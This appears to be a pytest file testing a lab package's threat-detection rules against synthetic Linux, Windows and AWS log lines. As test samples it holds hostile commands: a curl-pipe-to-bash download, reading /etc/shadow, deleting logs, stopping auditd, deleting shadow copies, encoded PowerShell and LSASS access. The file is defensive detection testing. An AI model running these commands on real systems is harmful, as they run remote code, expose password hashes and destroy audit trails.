"""The rules that come with the package: each fires on what it is for and stays silent on its near miss."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from security.threats.engine import read

from scorpius_lab.security.threats.events import event_schema
from scorpius_lab.security.threats.sigma.detector import Detector, refused
from scorpius_lab.security.threats.sigma.rules import RuleSet, load_rules
from scorpius_lab.security.threats.sigma.sources import OWN_RULES

A = "Oct 18 03:12:07 h "


def sudo(command: str, user: str = "ada") -> str:
    return f"{A}sudo[1]: {user} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}"


def refused_sudo(reason: str) -> str:
    return f"{A}sudo[1]: ada : {reason} ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls"


def ssh(second: int, text: str) -> str:
    return f"Oct 18 03:{second // 60:02}:{second % 60:02} h sshd[1]: {text}"


def failed(seconds: list[int], address: str = "203.0.113.9", user: str = "root") -> list[str]:
    return [ssh(s, f"Failed password for {user} from {address} port 9 ssh2") for s in seconds]


def win(event_id: int, channel: str, **data: Any) -> str:
    return json.dumps(
        {"EventID": event_id, "Channel": channel, "Hostname": "pc", "@timestamp": "2026-10-18T03:00:00Z", **data}
    )


def sysmon(event_id: int, **data: Any) -> str:
    return win(event_id, "Microsoft-Windows-Sysmon/Operational", **data)


def aws(name: str, source: str = "cloudtrail.amazonaws.com", kind: str = "IAMUser", **more: Any) -> str:
    return json.dumps(
        {
            "eventTime": "2026-10-18T03:00:00Z",
            "eventSource": source,
            "eventName": name,
            "userIdentity": {"type": kind},
            **more,
        }
    )


def dpkg(action: str, package: str) -> str:
    return f"2026-10-18 03:00:00 {action} {package}:amd64 <none> 1.0"


def logons(times: list[int], address: str = "192.0.2.1") -> list[str]:
    return [win(4625, "Security", IpAddress=address).replace("03:00:00", f"03:{t // 60:02}:{t % 60:02}") for t in times]


ENC = "powershell.exe -nop -enc SQBFAFgAIABoAGkAIAB0AGgAZQByAGUA"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CASES: dict[str, tuple[str, list[str], list[str]]] = {
    "linux-ssh-root-login": ("auth.log", [ssh(1, "Accepted publickey for root from 192.0.2.1 port 9 ssh2")], [ssh(1, "Accepted publickey for toor from 192.0.2.1 port 9 ssh2"), ssh(2, "Failed password for root from 192.0.2.1 port 9 ssh2")]),
    "linux-ssh-password-login": ("auth.log", [ssh(1, "Accepted password for ada from 192.0.2.1 port 9 ssh2")], [ssh(1, "Accepted publickey for password from 192.0.2.1 port 9 ssh2")]),
    "linux-ssh-guessing": ("auth.log", failed(list(range(0, 100, 10))), [*failed(list(range(0, 90, 10))), *failed(list(range(0, 90, 10)), "203.0.113.10"), *failed([900 + 20 * n for n in range(20)], "203.0.113.11")]),
    "linux-ssh-user-names-tried": ("auth.log", [ssh(n, f"Invalid user u{n} from 203.0.113.9 port 9") for n in range(5)], [ssh(n, f"Invalid user u{n % 4} from 203.0.113.9 port 9") for n in range(40)]),
    "linux-sudo-shell": ("auth.log", [sudo("/bin/bash")], [sudo("/usr/bin/less /etc/bash"), sudo("/bin/sh -c id")]),
    "linux-sudo-not-allowed": ("auth.log", [refused_sudo("user NOT in sudoers")], [sudo("/bin/ls")]),
    "linux-sudo-password-failed": ("auth.log", [refused_sudo("3 incorrect password attempts")], [refused_sudo("a terminal is required to read the password")]),
    "linux-user-created": ("auth.log", [A + "useradd[1]: new user: name=eve, UID=1001, GID=1001"], [A + "useradd[1]: new group: name=eve, GID=1001"]),
    "linux-user-created-as-root": ("auth.log", [A + "useradd[1]: new user: name=eve, UID=0, GID=0"], [A + "useradd[1]: new user: name=eve, UID=1000, GID=0"]),
    "linux-group-created": ("auth.log", [A + "groupadd[1]: new group: name=g, GID=1001"], [A + "useradd[1]: new user: name=g, UID=1001"]),
    "linux-admin-group-member": ("auth.log", [A + "usermod[1]: add 'eve' to group 'sudo'"], [A + "usermod[1]: add 'sudo' to group 'users'"]),
    "linux-attack-tool-installed": ("dpkg.log", [dpkg("install", "nmap")], [dpkg("remove", "nmap"), dpkg("install", "nmap-common")]),
    "linux-watchdog-package-removed": ("dpkg.log", [dpkg("remove", "auditd"), dpkg("purge", "rsyslog")], [dpkg("install", "auditd"), dpkg("remove", "libauditd")]),
    "linux-logs-deleted": ("auth.log", [sudo("/bin/rm -f /var/log/auth.log.1"), sudo("/usr/bin/journalctl --vacuum-time=1s")], [sudo("/bin/cat /var/log/auth.log"), sudo("/bin/rm /var/log/nginx/x"), sudo("/usr/bin/journalctl --vacuum-size=500M")]),
    "linux-security-service-stopped": ("auth.log", [sudo("/usr/bin/systemctl stop auditd"), sudo("/usr/sbin/service ufw stop")], [sudo("/usr/bin/systemctl restart auditd"), sudo("/usr/bin/systemctl stop nginx")]),
    "linux-cron-changed": ("auth.log", [A + "crontab[1]: (eve) REPLACE (eve)"], [A + "crontab[1]: (eve) LIST (eve)", A + "CRON[1]: (root) CMD (REPLACE)"]),
    "linux-sudoers-edited": ("auth.log", [sudo("/usr/sbin/visudo"), sudo("/usr/bin/vim /etc/sudoers.d/x")], [sudo("/bin/cat /etc/sudoers")]),
    "linux-shadow-read": ("auth.log", [sudo("/bin/cat /etc/shadow")], [sudo("/usr/bin/ls -l /etc/shadow")]),
    "linux-download-run": ("auth.log", [sudo("/bin/sh -c curl -s http://192.0.2.1/x | bash")], [sudo("/usr/bin/curl -o x http://192.0.2.1/bash"), sudo("/bin/sh -c curl x | shasum")]),
    "windows-log-cleared": ("e.jsonl", [win(1102, "SECURITY"), win(104, "System")], [win(1102, "Application"), win(104, "Microsoft-Windows-Foo")]),
    "windows-service-from-odd-place": ("e.jsonl", [win(7045, "System", Provider_Name="Service Control Manager", ImagePath="C:\\Users\\Public\\x.exe")], [win(7045, "System", Provider_Name="Service Control Manager", ImagePath="C:\\Program Files\\x.exe"), win(7036, "System", Provider_Name="Service Control Manager", ImagePath="C:\\Temp\\x.exe")]),
    "windows-powershell-encoded": ("e.jsonl", [sysmon(1, Image=PS, CommandLine=ENC), win(4688, "Security", NewProcessName=PS.upper(), CommandLine=ENC.upper())], [sysmon(1, Image=PS, CommandLine="powershell.exe -ExecutionPolicy Bypass -File encoded.ps1"), sysmon(1, Image="C:\\x.exe", CommandLine=ENC)]),
    "windows-powershell-decodes-and-runs": ("e.jsonl", [win(4104, "Microsoft-Windows-PowerShell/Operational", ScriptBlockText="iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))")], [win(4104, "Microsoft-Windows-PowerShell/Operational", ScriptBlockText="[Convert]::FromBase64String($x) | Set-Content f")]),
    "windows-lsass-access": ("e.jsonl", [sysmon(10, TargetImage="C:\\Windows\\System32\\lsass.exe", SourceImage="C:\\x.exe", GrantedAccess="0x1410")], [sysmon(10, TargetImage="C:\\Windows\\System32\\lsass.exe", SourceImage="C:\\x.exe", GrantedAccess="0x1000"), sysmon(10, TargetImage="C:\\Windows\\System32\\lsass.exe", SourceImage="C:\\Windows\\System32\\svchost.exe", GrantedAccess="0x1410")]),
    "windows-task-created": ("e.jsonl", [win(4698, "Security", TaskContent="<Command>powershell</Command>")], [win(4698, "Security", TaskContent="<Command>C:\\Program Files\\u.exe</Command>")]),
    "windows-account-locked": ("e.jsonl", [win(4740, "Security", TargetUserName="m")], [win(4767, "Security", TargetUserName="m")]),
    "windows-logon-guessing": ("e.jsonl", logons(list(range(0, 300, 30))), [*logons(list(range(0, 270, 30))), *logons(list(range(0, 3600, 60)), "192.0.2.2")]),
    "windows-shadow-copies-deleted": ("e.jsonl", [sysmon(1, Image="C:\\x", CommandLine="vssadmin Delete Shadows /all"), sysmon(1, Image="C:\\x", CommandLine="wmic shadowcopy delete")], [sysmon(1, Image="C:\\x", CommandLine="vssadmin list shadows")]),
    "windows-admin-group-member": ("e.jsonl", [win(4732, "Security", TargetUserName="Administrators"), win(4728, "Security", TargetUserName="x", TargetSid="S-1-5-21-1-512")], [win(4732, "Security", TargetUserName="Users", TargetSid="S-1-5-32-545")]),
    "aws-trail-stopped": ("e.jsonl", [aws("StopLogging")], [aws("StopLogging", errorCode="AccessDenied"), aws("DescribeTrails")]),
    "aws-root-used": ("e.jsonl", [aws("ConsoleLogin", "signin.amazonaws.com", "Root")], [aws("ConsoleLogin", "signin.amazonaws.com"), aws("x", kind="Root", eventType="AwsServiceEvent")]),
}  # fmt: skip


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return load_rules()


def fired(rules: RuleSet, path: Path, lines: list[str]) -> set[str]:
    import polars as pl

    path.write_text("\n".join(lines) + "\n")
    rows, tally = read(path)
    assert tally.rejected == 0, tally.rejects
    detector = Detector(rules)
    detector.feed(pl.DataFrame(rows, schema=event_schema()))
    return {match.rule.rule.id.removeprefix("threats.") for match in detector.matches()}


@pytest.mark.parametrize("name", CASES)
def test_fires_and_stays_silent(rules: RuleSet, tmp_path: Path, name: str) -> None:
    file, bad, near = CASES[name]
    if name in {"linux-ssh-guessing", "linux-ssh-user-names-tried", "windows-logon-guessing"}:
        assert name in fired(rules, tmp_path / file, bad)
    else:
        for line in bad:
            assert name in fired(rules, tmp_path / file, [line]), line
    assert name not in fired(rules, tmp_path / file, near)


def test_every_rule_that_reports_has_a_case(rules: RuleSet) -> None:
    reporting = {rule.rule.id.removeprefix("threats.") for rule in rules.rules if not rule.quiet}
    assert reporting == set(CASES)
    assert len(reporting) >= 14


def test_rules_are_ours_and_complete(rules: RuleSet) -> None:
    assert not refused(rules)
    ids = set()
    for path in sorted(OWN_RULES.glob("*.yml")):
        text = path.read_text()
        document = yaml.safe_load(text)
        assert text.startswith("# SPDX-License-Identifier: Apache-2.0\n")
        assert document["author"] == "scorpius_lab"
        assert document["name"] == path.stem.replace("_", "-")
        assert re.fullmatch(r"[0-9a-f-]{36}", document["id"])
        assert document["falsepositives"]
        assert document["description"]
        assert any(tag.startswith("attack.t") for tag in document["tags"])
        ids.add(document["id"])
    assert len(ids) == len(rules.rules)
    assert all(rule.problem is None for rule in rules.rules)


def test_a_repeated_line_counts_as_often_as_it_says(rules: RuleSet, tmp_path: Path) -> None:
    lines = [ssh(1, "message repeated 9 times: [ Failed password for root from 203.0.113.9 port 9 ssh2]"), *failed([2])]
    assert "linux-ssh-guessing" in fired(rules, tmp_path / "auth.log", lines)


def test_windows_slide_over_batches(rules: RuleSet, tmp_path: Path) -> None:
    """Ten failures within two minutes are seen though they are fed one by one and out of order."""
    import polars as pl

    path = tmp_path / "auth.log"
    path.write_text("\n".join(failed([55 + 12 * n for n in (3, 1, 2, 0, 9, 8, 7, 6, 5, 4)])) + "\n")
    rows, _ = read(path)
    detector = Detector(rules)
    for row in rows:
        detector.feed(pl.DataFrame([row], schema=event_schema()))
    (match,) = [m for m in detector.matches() if m.rule.rule.id == "threats.linux-ssh-guessing"]
    assert (match.count, match.subject, len(match.records)) == (10, "203.0.113.9", 10)
    assert match.last is not None
    assert match.first is not None
    assert (match.last - match.first).total_seconds() == 108
